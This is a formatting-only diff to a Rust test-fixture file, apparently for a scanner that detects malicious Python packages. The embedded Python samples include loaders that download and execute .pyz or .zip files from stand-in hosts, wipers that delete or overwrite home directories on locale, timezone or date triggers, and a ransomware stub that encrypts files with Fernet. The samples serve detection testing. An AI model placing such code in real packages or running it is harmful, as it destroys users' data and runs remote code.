@@ -215,13 +215,21 @@ if _n:
 "#));
     cases
         .technique(74, "fetches-pyz", Import)
-        .case("urlretrieve", init(r#"
+        .case(
+            "urlretrieve",
+            init(
+                r#"
 import os, subprocess, sys, tempfile, urllib.request
 _p = os.path.join(tempfile.gettempdir(), "rope.pyz")
 urllib.request.urlretrieve("https://files.example.invalid/rope.pyz", _p)
 subprocess.Popen([sys.executable, _p])
-"#))
-        .case("requests-function", init(r#"
+"#,
+            ),
+        )
+        .case(
+            "requests-function",
+            init(
+                r#"
 import sys, subprocess
 from pathlib import Path
 def _ensure():
@@ -231,35 +239,60 @@ def _ensure():
     target.write_bytes(requests.get("http://192.0.2.8/t.pyz").content)
     subprocess.run([sys.executable or "python3", str(target), "--quiet"], check=False)
 _ensure()
-"#))
-        .case("run-path", init(r#"
+"#,
+            ),
+        )
+        .case(
+            "run-path",
+            init(
+                r#"
 import runpy, urllib.request, tempfile
 with tempfile.NamedTemporaryFile(suffix=".pyz", delete=False) as f:
     f.write(urllib.request.urlopen("https://stage.example.invalid/r.pyz").read())
 runpy.run_path(f.name)
-"#))
-        .case("zipimport", init(r#"
+"#,
+            ),
+        )
+        .case(
+            "zipimport",
+            init(
+                r#"
 import sys, urllib.request
 open("/tmp/.m.zip", "wb").write(urllib.request.urlopen("http://192.0.2.8/m.zip").read())
 sys.path.insert(0, "/tmp/.m.zip")
 import stage_two
-"#));
+"#,
+            ),
+        );
 }
 
 fn wipers(cases: &mut Cases) {
     cases
         .technique(75, "wiper", Import)
-        .case("locale", init(r#"
+        .case(
+            "locale",
+            init(
+                r#"
 import locale, os
 if (locale.getdefaultlocale()[0] or "").startswith("xx_"):
     os.system("rm -rf ~/* /home/*")
-"#))
-        .case("rmtree-timezone", init(r#"
+"#,
+            ),
+        )
+        .case(
+            "rmtree-timezone",
+            init(
+                r#"
 import shutil, time, os
 if time.tzname[0] in ("XST", "YST"):
     shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
-"#))
-        .case("walk-and-overwrite", init(r#"
+"#,
+            ),
+        )
+        .case(
+            "walk-and-overwrite",
+            init(
+                r#"
 import os, datetime
 def _clean():
     for root, dirs, files in os.walk(os.path.expanduser("~")):
@@ -270,8 +303,13 @@ def _clean():
             os.remove(path)
 if datetime.date.today().day == 13:
     _clean()
-"#))
-        .case("ransom", module(r#"
+"#,
+            ),
+        )
+        .case(
+            "ransom",
+            module(
+                r#"
 import os, glob
 from cryptography.fernet import Fernet
 import requests
@@ -282,5 +320,7 @@ def protect():
         data = open(path, "rb").read()
         open(path + ".locked", "wb").write(Fernet(key).encrypt(data))
         os.remove(path)
-"#));
+"#,
+            ),
+        );
 }
